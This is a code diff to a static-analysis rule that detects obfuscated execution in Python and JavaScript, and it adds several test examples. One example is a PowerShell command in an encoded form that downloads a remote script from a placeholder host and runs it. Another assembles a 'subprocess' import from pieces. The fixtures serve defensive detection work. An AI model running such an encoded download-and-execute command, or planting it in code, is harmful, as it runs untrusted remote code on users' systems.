@@ -3,7 +3,7 @@
 import type { Argument, ModelledCall } from '../flow/call.ts';
 import type { Flow } from '../flow/flow.ts';
 import type { Origin } from '../flow/origins.ts';
-import { redacted } from '../secrets/redaction.ts';
+import { hiddenCommands, shorten } from './hidden-commands.ts';
 import { type Crossing, javascript, python, type Rule } from './rule.ts';
 import { CODE_INJECTION, MALICIOUS_CODE, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';
 
@@ -12,8 +12,6 @@ const KINDS = ['execute', 'process', 'import', 'compile', 'deserialise'] as cons
 const CODE = ['code', 'line', 'program', 'words'] as const;
 /** What hides a text whoever wrote it; compression and escapes are also how texts are stored and sent. */
 const HIDING = new Set(['base64', 'hexadecimal', 'another alphabet', 'character codes']);
-/** UTF-16 code units of the decoded text that a message shows. */
-const SHOWN = 80;
 
 interface Hidden {
   readonly call: ModelledCall;
@@ -41,12 +39,15 @@ export const obfuscatedExec: Rule = {
       for (const origin of it.decoded) told.add(origin.at);
       yield crossingOf(flow, it);
     }
+    const named = new Set<number>();
     for (const call of flow.sinks(...KINDS)) {
       const name = flow.reassembled(call);
-      if (!name) continue;
-      const message = `The name \`${name.text}\` is put together from pieces, so that nobody who looks for it finds that ${call.name} is called here. Find out what it hides, or write the name as it is.`;
+      if (!name || named.has(name.start)) continue;
+      named.add(name.start);
+      const message = `The name \`${name.text}\` is put together from pieces, so that nobody who looks for it finds that ${name.isModule ? 'it is imported' : `${call.name} is called`} here. Find out what it hides, or write the name as it is.`;
       yield { start: name.start, end: name.end, message };
     }
+    yield* hiddenCommands(flow);
   },
 
   examples: [
@@ -59,6 +60,15 @@ export const obfuscatedExec: Rule = {
       import builtins
       getattr(builtins, "ev" + "al")(text)
                         ^^^^^^^^^^^ obfuscated-exec
+    `,
+    python`
+      import os
+      os.system("powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQAuAGMAbwBtAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==")
+                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
+    `,
+    python`
+      module = __import__("sub" + "process")
+                          ^^^^^^^^^^^^^^^^^ obfuscated-exec
     `,
     javascript`
       const payload = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();
@@ -116,13 +126,6 @@ function crossingOf(flow: Flow, { call, argument, decoded, others }: Hidden): Cr
   const { steps } = remote ?? decoded[0]!;
   const isSure = others.length === 0 || remote !== undefined;
   return { start, end, message, steps, ...(isSure ? {} : { severity: 'warning', confidence: 'medium' }) };
-}
-
-function shorten(text: string): string {
-  const line = redacted(text.replace(/[^\x20-\x7e]+/g, ' '))
-    .replaceAll('`', "'")
-    .trim();
-  return line.length > SHOWN ? `${line.slice(0, SHOWN - 1)}…` : line;
 }
 
 function rank({ call }: Hidden): number {
